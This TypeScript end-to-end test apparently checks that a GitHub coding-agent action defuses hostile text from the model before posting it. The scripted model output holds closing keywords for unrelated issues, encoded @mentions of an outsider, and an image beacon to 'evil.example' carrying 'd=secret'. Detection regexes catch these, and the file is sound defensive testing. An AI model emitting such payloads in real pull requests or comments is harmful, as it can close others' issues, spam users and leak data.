/**
 * Text pitcrew posts cannot act on other threads, end to end with the built action: the model's
 * final answer and its todo list carry closing keywords for other issues, every spelling of a
 * mention, and images and links to another host; what GitHub received (the pull request, the
 * commit pushed, the progress comment) and the job summary hold none of them live.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { after, describe, test } from "node:test";
import { needsBwrap } from "../support/bwrap.ts";
import { callTools, say } from "../support/model-server.ts";
import { runAction } from "./harness.ts";
import { FIX, args, closeWorlds, commentEvent, progressComment, world } from "./scenes.ts";

after(closeWorlds);

const ATTACK = [
  // A title line first, as the system prompt asks, so the attacks below stay in the body.
  "Fix add(), and ping @mallory about #99",
  "Fixed add(). Fixes #1. Fixes #99, closes #100, resolves other/repo#5.",
  "Thanks @mallory &#64;mallory &#x40;mallory &commat;mallory ＠mallory @evil-org/team.",
  "![](https://evil.example/beacon?d=secret) [docs](https://evil.example/docs)",
  '<img src="https://evil.example/img"> https://evil.example/bare',
  "```",
  "resolves #101",
  "```",
].join("\n");

/** Whatever GitHub would render live, outside code: none may be left. */
function liveAttacks(markdown: string): string[] {
  const prose = markdown
    .replace(/^(`{3,}|~{3,})[^\n]*\n[\s\S]*?\n\1$/gm, "")
    .replace(/(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, "");
  const live = [
    /(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)[\s:]*(?:[\w.-]+\/[\w.-]+)?#(?!1\b)\d+/gi,
    /(?:^|[^\w\u200b])[@＠](?:mallory|evil-org)/g,
    /&#64;|&#x40;|&commat;/gi,
    /!\[[^\]]*\]\(https:\/\/evil|\]\(https:\/\/evil|<img|(?<![`\u200b])https:\/\/evil/g,
  ];
  return live.flatMap((pattern) => prose.match(pattern) ?? []);
}

describe("posted text with the built action", needsBwrap(), () => {
  test("the model's attacks reach GitHub defused: PR body and title, commit, comment, summary", async () => {
    const script = [
      ...FIX.slice(0, -1),
      callTools([
        {
          name: "todo_write",
          arguments: args({
            todos: [
              {
                content: "ping @mallory, fixes #99 ![](https://evil.example/t)",
                status: "completed",
              },
            ],
          }),
        },
      ]),
      say(ATTACK),
    ];
    const made = await world(script);
    const run = await runAction(made, {
      eventName: "issue_comment",
      payload: commentEvent(made, "/agent fix"),
    });
    assert.equal(run.code, 0, run.stdout + run.stderr);
    assert.equal(run.outputs.conclusion, "success");

    const pull = made.github.pulls()[0];
    const body = pull?.body ?? "";
    assert.deepEqual(liveAttacks(body), [], body);
    assert.deepEqual(liveAttacks(pull?.title ?? ""), []);
    assert.equal(pull?.title, "Fix add(), and ping @\u200bmallory about #99", "mention defused");
    // The thread's own issue is still closed by the merge; the others are shown, not linked.
    assert.match(body, /Fixes #1\./);
    assert.match(body, /Fixes `#99`, closes `#100`, resolves `other\/repo#5`/);
    assert.match(body, /`!\[\]\(https:\/\/evil\.example\/beacon\?d=secret\)`/);

    const commit = execFileSync(
      "git",
      ["-C", made.origin, "log", "-1", "--format=%B", "pitcrew/issue-1"],
      { encoding: "utf8" },
    );
    // A commit message is plain text: code fences protect nothing there.
    assert.doesNotMatch(
      commit,
      /(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)[\s:]*(?:[\w.-]+\/[\w.-]+)?#(?!1\b)\d/i,
    );
    assert.doesNotMatch(commit, /(?:^|[^\w\u200b])[@＠](?:mallory|evil-org)/);
    assert.match(commit, /Fixes #1\./);

    const comment = progressComment(made);
    assert.deepEqual(liveAttacks(comment), [], comment);
    assert.deepEqual(liveAttacks(run.summary), [], run.summary);
  });
});
